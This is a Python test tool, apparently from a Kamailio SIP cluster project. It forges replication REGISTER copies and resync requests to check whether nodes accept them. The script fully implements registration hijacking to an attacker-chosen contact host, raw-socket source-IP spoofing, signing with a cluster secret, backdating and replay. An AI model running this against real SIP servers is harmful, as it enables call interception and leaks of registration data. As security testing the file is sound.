"""Send one copy of a REGISTER (kamailio_usrloc_replication_method
register_copy: how the nodes pass on the REGISTERs they accepted) to a node,
as a host that wants to plant a registration without the user's password
would: the user's contact pointed at CONTACT_HOST.

    register_copy_send.py DEST_IP DEST_PORT USER CONTACT_HOST SOCKET
        [--spoof PEER_IP] [--secret SECRET] [--age SECONDS]

Or, with --ask, the ask of a node that started (sipha-usrloc-resync ask),
which makes the node send its recent registrations to the asking peer:

    register_copy_send.py DEST_IP DEST_PORT --ask [--spoof PEER_IP]
        [--secret SECRET] [--age SECONDS] [--replay]

--spoof sends it with a peer's address as its source (a raw socket: root),
which a host on the same network can do over UDP; --secret signs it as a
node would (route[COPY_SIGNATURE], route[RESYNC_ASK]), which only a holder
of the cluster's secret can; --age dates it that far back; --replay sends
the same ask again a second later. A node answers neither, so nothing is
read back here: the test asks the nodes what they hold, or what they sent.
This is the forger's own writing of the nodes' rules (not the collection's
module_utils/usrloc_copy.py): a unit test checks that both sign alike.
"""
import argparse
import hashlib
import random
import socket
import struct
import time

SIP_PORT = 5060


def signature(secret, call_id, cseq, to_uri, contact, expires, received, stamp):
    # route[COPY_SIGNATURE] of the Kamailio config, field for field.
    signed = ":".join((secret, call_id, cseq, to_uri, contact, expires, received, stamp, secret))
    return hashlib.sha256(signed.encode()).hexdigest()[:24]


def request(dest, port, local, user, contact_host, sock, secret, age):
    call_id = "copy-%08x@%s" % (random.getrandbits(32), local[0])
    to_uri = "sip:%s@%s" % (user, dest)
    contact = "<sip:%s@%s:5099>" % (user, contact_host)
    stamp = str(int(time.time()) - age)
    # Without the secret the forger signs with a guess; with it, as a node.
    sig = signature(secret, call_id, "1", to_uri, contact, "600", "", stamp) if secret else "%024x" % random.getrandbits(96)
    return (
        "REGISTER sip:%s:%d SIP/2.0\r\n"
        "Via: SIP/2.0/UDP %s:%d;branch=z9hG4bK-copy-%08x\r\n"
        "From: <%s>;tag=%08x\r\n"
        "To: <%s>\r\n"
        "Call-ID: %s\r\n"
        "CSeq: 1 REGISTER\r\n"
        "Max-Forwards: 70\r\n"
        "Contact: %s\r\n"
        "Expires: 600\r\n"
        "X-Sipha-Copy: t=%s;sg=%s\r\n"
        "X-Sipha-Socket: %s\r\n"
        "Content-Length: 0\r\n\r\n"
        % (dest, port, local[0], local[1], random.getrandbits(32), to_uri, random.getrandbits(32), to_uri, call_id,
           contact, stamp, sig, sock)
    )


def ask_signature(secret, requester, target, nonce, stamp):
    # route[RESYNC_ASK]: the asking address, the asked one, a nonce, the time.
    signed = ":".join((secret, "resync", requester, target, nonce, stamp, secret))
    return hashlib.sha256(signed.encode()).hexdigest()[:24]


def ask_request(dest, port, local, secret, age):
    nonce = "%016x" % random.getrandbits(64)
    stamp = str(int(time.time()) - age)
    sig = ask_signature(secret, local[0], dest, nonce, stamp) if secret else "%024x" % random.getrandbits(96)
    return (
        "OPTIONS sip:%s:%d SIP/2.0\r\n"
        "Via: SIP/2.0/UDP %s:%d;branch=z9hG4bK-ask-%s\r\n"
        "From: <sip:sipha-resync@%s>;tag=%s\r\n"
        "To: <sip:%s:%d>\r\n"
        "Call-ID: ask-%s@%s\r\n"
        "CSeq: 1 OPTIONS\r\n"
        "Max-Forwards: 70\r\n"
        "X-Sipha-Resync: r=%s;t=%s;n=%s;sg=%s\r\n"
        "Content-Length: 0\r\n\r\n"
        % (dest, port, local[0], local[1], nonce, local[0], nonce[:8], dest, port, nonce, local[0], local[0], stamp, nonce,
           sig)
    )


def spoofed_datagram(source, dest, port, payload):
    # IPv4 header (the kernel fills in the checksum and the length) and a
    # UDP header without a checksum (allowed over IPv4).
    udp = struct.pack("!HHHH", SIP_PORT, port, 8 + len(payload), 0) + payload
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(udp), random.getrandbits(16), 0, 64, socket.IPPROTO_UDP, 0,
                     socket.inet_aton(source), socket.inet_aton(dest))
    return ip + udp


def main():
    parser = argparse.ArgumentParser()
    parser.add_argument("dest")
    parser.add_argument("port", type=int)
    parser.add_argument("user", nargs="?")
    parser.add_argument("contact_host", nargs="?")
    parser.add_argument("socket", nargs="?", help="what X-Sipha-Socket names, e.g. udp:VIP:5060")
    parser.add_argument("--ask", action="store_true", help="send a started node's ask instead of a copy")
    parser.add_argument("--spoof", metavar="PEER_IP", help="send with this source address")
    parser.add_argument("--secret", help="sign as a node does")
    parser.add_argument("--age", type=int, default=0, help="seconds to date the copy back")
    parser.add_argument("--replay", action="store_true", help="send it again a second later")
    args = parser.parse_args()
    if not args.ask and not (args.user and args.contact_host and args.socket):
        parser.error("a copy needs USER CONTACT_HOST SOCKET")

    def build(local):
        if args.ask:
            return ask_request(args.dest, args.port, local, args.secret, args.age)
        return request(args.dest, args.port, local, args.user, args.contact_host, args.socket, args.secret, args.age)

    if args.spoof:
        # The raw socket sends the whole IP datagram, the peer's address in it.
        sock = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
        datagram = spoofed_datagram(args.spoof, args.dest, args.port, build((args.spoof, SIP_PORT)).encode())
    else:
        sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        sock.connect((args.dest, args.port))
        datagram = build(sock.getsockname()).encode()
    for attempt in range(2 if args.replay else 1):
        if attempt:
            time.sleep(1)
        if args.spoof:
            sock.sendto(datagram, (args.dest, 0))
        else:
            sock.send(datagram)
    print("sent")


if __name__ == "__main__":
    main()
